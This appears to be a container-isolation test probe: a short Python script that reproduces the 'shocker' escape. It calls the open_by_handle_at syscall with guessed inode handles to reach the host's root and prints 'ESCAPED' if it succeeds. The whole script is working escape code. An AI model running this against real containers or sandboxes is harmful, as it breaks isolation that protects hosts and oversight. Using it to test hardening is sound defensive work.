"""Opens the host's root by a guessed handle of the file system, as the "shocker" exploit did.

right: killed, passed
"""

import ctypes
import os
import platform
import struct

libc = ctypes.CDLL(None)
number = {"x86_64": 304, "aarch64": 265}[platform.machine()]
mounted = os.open("/", os.O_RDONLY)
for inode in (2, 128, 256, 64):
    handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, inode))
    if libc.syscall(number, mounted, handle, os.O_RDONLY) >= 0:
        print("ESCAPED", inode)
